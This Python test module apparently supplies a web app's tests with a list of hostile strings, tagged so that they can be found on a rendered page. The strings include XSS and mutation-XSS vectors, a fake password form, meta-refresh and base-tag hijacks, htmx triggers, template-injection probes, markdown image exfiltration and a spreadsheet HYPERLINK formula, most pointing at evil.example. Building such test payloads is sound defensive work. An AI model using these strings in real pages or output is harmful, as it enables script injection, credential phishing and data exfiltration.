"""Texts that would do something if a page took them for more than text. What would run calls `pwn`, what would load
names `pwned`, and what would become an element has the attribute `data-foe`."""

from itertools import count

ELSEWHERE = "https://evil.example/pwned"
PAYLOADS = (
    "<script data-foe>pwn('script')</script>",
    "<script data-foe src=https://evil.example/pwned.js></script>",
    "</script><script data-foe>pwn('out of a script')</script>",
    "<img data-foe src=x onerror=pwn('onerror')>",
    f"<img data-foe src={ELSEWHERE}.png>",
    "<svg data-foe onload=pwn('svg')><animate onbegin=pwn('begin') attributeName=x></svg>",
    "<svg><script data-foe href=data:,pwn('svg-script') /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img data-foe title='--&gt;&lt;img src=x onerror=pwn(1)&gt;'>",
    f"<iframe data-foe src={ELSEWHERE}></iframe>",
    "<iframe data-foe srcdoc='<script>parent.pwn(1)</script>'></iframe>",
    "<object data-foe data=data:text/html,<script>pwn(1)</script>></object>",
    f"<embed data-foe src={ELSEWHERE}>",
    "<style data-foe>@import url(https://evil.example/pwned.css); body { display: none }</style>",
    f"<meta data-foe http-equiv=refresh content='0; url={ELSEWHERE}'>",
    "<base data-foe href=https://evil.example/>",
    f"<link data-foe rel=stylesheet href={ELSEWHERE}.css>",
    "<link data-foe rel=prefetch href=/pwned>",
    f"<form data-foe action={ELSEWHERE}><input name=password><button>Sign in again</button></form>",
    "<input data-foe autofocus onfocus=pwn('focus')>",
    "<details data-foe open ontoggle=pwn('toggle')>x</details>",
    "<body data-foe onload=pwn('body') onpageshow=pwn('show')>",
    "<video data-foe poster=/pwned><source onerror=pwn('source')></video>",
    "<a data-foe href='javascript:pwn(1)'>click</a>",
    "javascript:pwn('address')//",
    "data:text/html,<script>pwn('data')</script>",
    "<div data-foe hx-get=/pwned hx-trigger=load>",
    "<div data-foe hx-post=/pwned hx-trigger='every 1s' hx-headers='js:{a:pwn(1)}'>",
    "<div data-foe hx-on::load=pwn('hx-on') hx-on:click=pwn(2)>",
    "<div data-foe data-hx-get=/pwned data-hx-trigger=revealed>",
    "<div data-foe id=toasts hx-swap-oob=innerHTML>pwned</div>",
    "<div data-foe data-b-run data-b-events=/pwned data-b-final=/pwned>",
    "<button data-foe data-b-discard autofocus>Discard</button><form data-foe data-b-box=vars.tone data-b-form></form>",
    "<time data-foe data-b-time=short datetime=2026-01-01>pwned</time><div data-foe data-b-chart='{}'>",
    "\" autofocus onfocus=pwn('quote') data-foe x=\"",
    "' autofocus onfocus=pwn('apostrophe') data-foe x='",
    "`-pwn('template')-`${pwn('literal')}",
    "\\\"}};pwn('json');//",
    "\\u003cimg data-foe src=x onerror=pwn('escaped')\\u003e",
    "]]><img data-foe src=x onerror=pwn('cdata')>",
    "--><img data-foe src=x onerror=pwn('comment')>",
    "</textarea><img data-foe src=x onerror=pwn('textarea')>",
    "</title><img data-foe src=x onerror=pwn('title')></template></select></svg>",
    "<template data-foe><img src=x onerror=pwn('template')></template>",
    f"![a picture]({ELSEWHERE}?what=they-said)",
    f"[a link]({ELSEWHERE}) <{ELSEWHERE}>",
    "[click](javascript:pwn('markdown'))",
    "x{};} body{background:url(https://evil.example/pwned)} /*",
    "{{ 7|add:7 }} {{ request.session }} {% load x %} {% include 'web/error.html' %} #{7*7} ${7*7} <%= 7*7 %>",
    "\u202egnp.exe\u202c \u2066isolated\u2069 a\u200bb\u200dc\ufeffd \u2028 \u2029",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example/pwned\x07link\x1b]8;;\x07 \x07 \x08 \x7f",
    '=HYPERLINK("https://evil.example/pwned","x") @SUM(1) +1 -1',
)  # fmt: skip
ALL = "\n".join(PAYLOADS)
SHORTEST = "'\"><img data-foe src=x onerror=pwn(0)>"


class Hostile:
    """Gives hostile texts, each with a word of its own at its beginning by which it is found on a page."""

    def __init__(self) -> None:
        self.given: set[str] = set()
        self._turn = count()

    def __call__(self, name: str, most: int = 100_000, *, liquid: bool = True) -> str:
        """A text of at most `most` characters: all payloads, or the one whose turn it is. Without Liquid's brackets
        for texts that are templates."""
        word = f"zq{name}zq"
        self.given.add(word)
        fitting = [one for one in PAYLOADS if liquid or "{{" not in one and "{%" not in one and "}}" not in one]
        whole = f"{word} " + "\n".join(fitting)
        if len(whole) <= most:
            return whole
        short = [one for one in fitting if len(one) + len(word) + len(SHORTEST) + 2 <= most and "\x1b" not in one]
        return f"{word} {SHORTEST} {short[next(self._turn) % len(short)]}" if short else f"{word} {SHORTEST}"[:most]
